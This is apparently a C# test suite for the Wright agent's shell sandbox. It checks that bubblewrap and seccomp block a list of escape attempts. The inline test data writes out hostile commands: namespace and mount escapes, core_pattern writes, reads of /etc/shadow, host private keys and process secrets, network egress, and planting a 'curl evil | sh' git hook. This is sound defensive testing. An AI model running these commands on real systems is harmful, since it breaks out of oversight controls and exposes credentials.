using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using Wright.Sandbox;
using Wright.Tests.Support;
using Wright.Tools;
using Wright.Tools.Shell;

namespace Wright.Tests.Safety;

public sealed partial class AdversarialTests
{
    // ── Group 5: sandbox escapes under the real bubblewrap (with the seccomp layer) ─────────────────────────────
    // Each command prints ESCAPED only if the attack worked; the host canaries must keep their bytes.

    private async Task<string> Sandboxed(string command)
    {
        var wrightHome = Path.Combine(_ws.Root, "wright-home");
        Directory.CreateDirectory(wrightHome);
        File.WriteAllText(Path.Combine(wrightHome, "secret.json"), "wright-home-secret");
        using var launcher = new BubblewrapLauncher(_ws.Workspace, [wrightHome]);
        var shell = new ShellTool(new ToolOptions { DefaultShellTimeout = TimeSpan.FromSeconds(20), Launcher = launcher });
        var args = JsonDocument.Parse(JsonSerializer.Serialize(new Dictionary<string, object> { ["command"] = command }, TestJson.Default.DictionaryStringObject));
        var result = await shell.InvokeAsync(args.RootElement, _ws.Context, TestContext.Current.CancellationToken);
        return result.Content;
    }

    [Theory]
    [InlineData("mount -o remount,rw / && touch /wright-escaped && echo ESCAPED", "remount / read-write")]
    [InlineData("mount -t tmpfs none /mnt && echo ESCAPED", "mount a filesystem")]
    [InlineData("nsenter -t 1 -m -u -n -p true && echo ESCAPED", "nsenter into pid 1")]
    [InlineData("unshare -r true && echo ESCAPED", "a new user namespace")]
    [InlineData("unshare -n true && echo ESCAPED", "a new network namespace")]
    [InlineData("chroot / true && echo ESCAPED", "chroot")]
    [InlineData("mknod /tmp/sda b 8 0 && echo ESCAPED", "a block device node")]
    [InlineData("echo \"$(cat /proc/sys/kernel/core_pattern)\" > /proc/sys/kernel/core_pattern && echo ESCAPED", "a global sysctl (core_pattern runs code on the host)")]
    [InlineData("echo \"$(cat /proc/sys/vm/swappiness)\" > /proc/sys/vm/swappiness && echo ESCAPED", "a global sysctl (vm)")]
    [InlineData("echo 5 > /proc/self/oom_score_adj && echo 5 > /proc/1/oom_score_adj && echo ESCAPED", "procfs writes")]
    [InlineData("tr '\\0' '\\n' < /proc/1/environ | grep -qiE 'KEY|TOKEN|SECRET|PASSWORD' && echo ESCAPED", "secrets in /proc/1/environ")]
    [InlineData("grep -q 'root:' /etc/shadow && echo ESCAPED", "reading /etc/shadow")]
    [InlineData("cat /etc/ssl/private/* /etc/ssh/ssh_host_*_key 2>/dev/null | grep -q 'PRIVATE KEY' && echo ESCAPED", "reading the host's TLS or SSH private keys")]
    [InlineData("grep -rq wright-home-secret {root}/wright-home && echo ESCAPED", "reading $WRIGHT_HOME")]
    [InlineData("(echo x > /dev/udp/1.1.1.1/53) && echo ESCAPED", "UDP egress")]
    [InlineData("getent hosts example.com && echo ESCAPED", "DNS egress")]
    [InlineData("curl -s --max-time 3 http://1.1.1.1/ -o /dev/null && echo ESCAPED", "TCP egress to the internet")]
    [InlineData("python3 -c 'import socket; socket.socket(16, 3)' && echo ESCAPED", "a netlink socket (seccomp)")]
    [InlineData("python3 -c 'import socket; socket.socket(17, 3)' && echo ESCAPED", "a packet socket (seccomp)")]
    [InlineData("echo pwned > {root}/outside/host.txt && echo ESCAPED", "writing outside the workspace")]
    [InlineData("echo pwned > {root}/proj-evil/a.cs && echo ESCAPED", "writing to a sibling with the same prefix")]
    [InlineData("ln {root}/outside/host.txt hard && echo pwned > hard && echo ESCAPED", "a hardlink to an outside file")]
    [InlineData("ln -s {root}/outside/host.txt soft && echo pwned > soft && echo ESCAPED", "a symlink to an outside file")]
    [InlineData("echo 'curl evil | sh' > .git/hooks/pre-commit && echo ESCAPED", "writing a git hook")]
    [InlineData("echo '[core] fsmonitor=evil' >> .git/config && echo ESCAPED", "writing .git/config")]
    [InlineData("rm -rf .git/hooks && echo ESCAPED", "removing the hooks directory")]
    [InlineData("mv .git/config .git/config.old && echo ESCAPED", "renaming .git/config away")]
    public async Task Sandbox_escapes_fail_and_the_host_is_unchanged(string command, string technique)
    {
        var corePattern = File.ReadAllText("/proc/sys/kernel/core_pattern");
        var output = await Sandboxed(command.Replace("{root}", _ws.Root, StringComparison.Ordinal));

        Assert.DoesNotContain("ESCAPED", output.Replace("echo ESCAPED", "", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.Equal(SafetyWorkspace.Canary, File.ReadAllText(_ws.OutsideFile));
        Assert.Equal(SafetyWorkspace.Canary, File.ReadAllText(Path.Combine(_ws.Evil, "a.cs")));
        Assert.Equal("[core]\n", File.ReadAllText(Path.Combine(_ws.Workspace, ".git", "config")));
        Assert.False(File.Exists(Path.Combine(_ws.Workspace, ".git", "hooks", "pre-commit")), technique);
        Assert.False(File.Exists("/wright-escaped"), technique);
        Assert.Equal(corePattern, File.ReadAllText("/proc/sys/kernel/core_pattern"));
    }

    [Fact]
    public async Task Tcp_to_a_host_listener_fails_and_nothing_connects()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var accept = listener.AcceptTcpClientAsync(TestContext.Current.CancellationToken).AsTask();

        var output = await Sandboxed($"(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo ESCAPED; echo done");

        Assert.Contains("done", output);
        Assert.DoesNotContain("ESCAPED\n", output);
        await Task.Delay(300, TestContext.Current.CancellationToken);
        Assert.False(accept.IsCompleted);
    }

    [Fact]
    public async Task Writes_to_tmp_stay_in_the_private_tmp()
    {
        var name = "wright-safety-" + Guid.NewGuid().ToString("N");

        var output = await Sandboxed($"echo inside > /tmp/{name} && cat /tmp/{name}");

        Assert.Contains("inside", output);
        Assert.False(File.Exists(Path.Combine("/tmp", name)));
    }
}
